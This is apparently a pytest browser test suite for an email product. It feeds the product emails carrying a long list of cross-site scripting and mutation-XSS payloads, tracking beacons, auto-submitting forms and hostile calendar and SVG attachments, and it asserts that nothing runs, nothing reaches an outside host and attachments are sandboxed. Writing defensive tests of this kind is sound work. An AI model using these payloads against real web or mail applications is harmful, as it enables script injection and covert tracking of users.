"""Letters full of malice, taken in and read in Chromium: nothing runs, nothing is fetched, nothing is sent (S6, S7)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from shouwen.conversations.email.tests.test_markup import HOSTILE
from tests.browser.ways import desk_of, sign_in

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

MARK = "<img src=//tracker.example/m onerror=alert('m')>\"'><script>alert('m')</script>"
#: Beside what the cleaning is tried with: what browsers make of markup the second time they read it, and ways out.
MORE = [
    "<math><mtext><table><mglyph><style><math href='javascript:alert(1)'>x</math></style></mglyph></table></mtext></math>",
    "<svg></p><style><a id=\"</style><img src=//tracker.example/s onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src=x>\">",
    "<select><iframe></select><img src=x: onerror=alert(1)>", "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>",
    "<noembed><img title=\"</noembed><img src onerror=alert(1)>\"></noembed>", "<frameset onload=alert(1)><frame src=//tracker.example>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\"></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)><a><text>x</text></a></svg><svg><image href=//tracker.example/i></svg>",
    "<math><maction actiontype='statusline#//tracker.example' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a><object data='data:text/html,<script>alert(1)</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'><meta http-equiv=Set-Cookie content='a=b'>",
    "<base href=//tracker.example/><a href=x>x</a><img src=x>", "<base target=_top><a href=//tracker.example>x</a>",
    "<form id=f action=//tracker.example/f><input name=a autofocus onfocus=this.form.submit()></form><button form=f>x</button>",
    "<style>@font-face{font-family:x;src:url(//tracker.example/f)}p{font-family:x}</style><p style='behavior:url(x)'>x</p>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:url('//tracker.example/c')\">x</p>",
    "<div style='background-image:\\75rl(//tracker.example/e)'>x</div><link rel=dns-prefetch href=//tracker.example>",
    "<link rel=preload as=image href=//tracker.example/p><link rel=prerender href=//tracker.example>",
    "<picture><source srcset=//tracker.example/a><img src=//tracker.example/b></picture><track src=//tracker.example/t>",
    "<img src=cid:none usemap=#m><map name=m><area href=javascript:alert(1) shape=default></map>", "<portal src=//tracker.example>",
    "<img name=getElementById><img id=cookie><form name=body><input name=firstChild></form><a id=defaultView>x</a>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee><x contenteditable onblur=alert(1)>x",
    "<script type=module src=//tracker.example/m.js></script><script type=speculationrules>{}</script>", "<isindex action=j&Tab;avas&NewLine;c&colon;alert(1)>",
    "\x3cscr\x00ipt>alert(1)</scr\x00ipt><\u017fcript>alert(1)</\u017fcript>", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]  # fmt: skip
CALENDAR = (
    f"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:{MARK}\r\nDESCRIPTION:{MARK}\r\n"
    "ATTACH:http://tracker.example/a\r\nURL:javascript:alert(1)\r\nEND:VEVENT\r\nEND:VCALENDAR"
)
IDENT = "hostile-0@evil.example"
WORDS = "看得见的话"  # stands beside every attack: an empty frame proves nothing


def _letter(number: int, html: str) -> bytes:
    lines = [
        f'From: "{MARK.translate({34: 39})}" <eve@evil.example>', "To: service@luda.example", f"Subject: {MARK}",
        f"Message-ID: <hostile-{number}@evil.example>", *([f"In-Reply-To: <{IDENT}>"] if number else []),
        "MIME-Version: 1.0", "Content-Type: multipart/mixed; boundary=b", "", "--b",
        "Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: 8bit", "", f"<p>{WORDS} {number}</p>{html}",
    ]  # fmt: skip
    if number < 2:
        name = MARK.translate({34: 39})
        lines += ["--b", f'Content-Type: text/calendar; method=REQUEST; name="{name}.ics"', "", CALENDAR]
        lines += ["--b", f'Content-Type: text/html; name="{name}.html"', "", "<script>alert(1)</script>"]
        lines += [
            "--b",
            'Content-Type: image/svg+xml; name="a.svg"',
            "",
            "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
        ]
    return "\r\n".join([*lines, "--b--", ""]).encode()


@pytest.fixture(scope="session")
def hostile(served: str, tmp_path_factory: Any) -> dict[str, Any]:
    """All of them in one conversation of the served product, and the case that was made of it."""
    folder = tmp_path_factory.mktemp("letters")
    data = tmp_path_factory.getbasetemp() / "served0" / "data"
    bodies = [*HOSTILE, *MORE]
    for number, html in enumerate(bodies):
        (folder / f"{number:03}.eml").write_bytes(_letter(number, html))
    environment = {name: value for name, value in os.environ.items() if not name.startswith(("SHOUWEN_", "DJANGO_"))}
    files = sorted(map(str, folder.glob("*.eml")))
    command = [sys.executable, "-m", "shouwen", "mail", "ingest", "--data", str(data), *files]
    done = subprocess.run(
        command,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        env=environment,
        cwd=Path(__file__).parents[2],
    )
    assert done.returncode == 0, done.stderr
    said = [json.loads(line) for line in done.stdout.splitlines()]
    assert {each["outcome"] for each in said} == {"opened", "joined"}, said
    return {"count": len(bodies), "bodies": bodies, "case": said[0]["case"]}


@dataclass
class Alarms:
    """What ran, and what went out to anywhere but the product."""

    ran: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)

    def watch(self, page: Any, home: str) -> None:
        def judge(route: Any) -> None:
            if route.request.url.startswith((home, "data:", "blob:", "about:")):
                route.fallback()
            else:
                self.asked.append(route.request.url)
                route.abort()

        page.context.route("**/*", judge)
        page.on("dialog", lambda dialog: (self.ran.append(dialog.message), dialog.dismiss()))
        page.context.on("page", lambda opened: self.asked.append(f"a window: {opened.url}"))


def _open_all(page: Any, came: list[str], count: int) -> None:
    """Opens every letter as its sender made it, and waits until all `came`."""
    assert page.locator("iframe.letter").count() == count
    page.evaluate("document.querySelectorAll('details:has(iframe)').forEach(each => { each.open = true })")
    page.evaluate("document.querySelectorAll('iframe.letter').forEach(each => { each.loading = 'eager' })")
    for _try in range(300):
        if len(came) >= count:
            break
        page.wait_for_timeout(100)
    page.wait_for_load_state("networkidle")
    page.wait_for_timeout(500)
    assert len(came) == count


def _conversation(page: Any) -> str:
    page.goto("/conversations/?scope=all")
    link = page.get_by_role("link").filter(has_text="alert('m')").first
    return str(link.get_attribute("href"))


def test_no_letter_runs_or_fetches_anything_and_all_can_be_read(page: Any, served: str, hostile: Any) -> None:
    alarms = Alarms()
    alarms.watch(page, served)
    sign_in(page, "2107")
    came: list[str] = []

    def as_served(route: Any) -> None:
        answer = route.fetch()
        came.append(answer.text())
        route.fulfill(response=answer)

    page.context.route("**/messages/*/page/", as_served)
    page.goto(_conversation(page))
    _open_all(page, came, hostile["count"])
    for text in came:
        assert WORDS in text
        assert "tracker.example" not in text.replace('href="//tracker.example', "").replace("&lt;", "")
    assert (alarms.ran, alarms.asked) == ([], [])

    for each in page.locator("a[href*='/conversations/files/']").all():
        given = page.request.get(str(each.get_attribute("href")))
        assert given.headers["content-disposition"].startswith("attachment")
        assert given.headers["content-security-policy"].startswith("sandbox")
        assert given.headers["content-type"].split(";")[0] not in ("text/html", "image/svg+xml", "text/calendar")


def test_subject_sender_and_file_names_are_text_on_every_page_that_lists_them(
    page: Any, served: str, hostile: Any
) -> None:
    alarms = Alarms()
    alarms.watch(page, served)
    sign_in(page, "2107")
    case = f"/cases/{hostile['case']}/"
    pages = ["/conversations/?scope=all", "/workbench/", "/cases/", case, f"{case}print/", "/customers/?q=eve"]
    shown = []
    for at in [*pages, f"/cases/?q={hostile['case']}", "/intake/"]:
        page.goto(at)
        page.wait_for_load_state("networkidle")
        shown.append("alert('m')" in page.locator("body").inner_text())
        assert page.locator("img[onerror], img[src*=tracker]").count() == 0
    assert sum(shown) >= 3  # it is there to be seen, as the words it is
    assert (alarms.ran, alarms.asked) == ([], [])


def test_even_uncleaned_a_letter_stays_in_its_sandbox(browser: Any, served: str, hostile: Any) -> None:
    """The cleaning taken away: the frame and the policy sent with it must do by themselves."""
    context = desk_of(browser, served)
    page, alarms, came = context.new_page(), Alarms(), []
    alarms.watch(page, served)

    def as_it_came(route: Any) -> None:
        html = hostile["bodies"][len(came)]
        came.append(html)
        route.fulfill(response=route.fetch(), body=f"<!doctype html><p>{WORDS}</p>{html}<script>alert('ran')</script>")

    sign_in(page, "2107")
    context.route("**/messages/*/page/", as_it_came)
    page.goto(_conversation(page))
    _open_all(page, came, hostile["count"])
    assert page.url.startswith(f"{served}/conversations/")
    inside = [each for each in alarms.asked if not each.startswith("a window")]
    assert (alarms.ran, inside) == ([], [])

    page.goto("about:blank")  # and the alarm rings where nothing holds it
    page.set_content("<img src=//tracker.example/alarm><script>alert('alarm')</script>")
    page.wait_for_timeout(500)
    assert alarms.ran == ["alarm"]
    context.close()
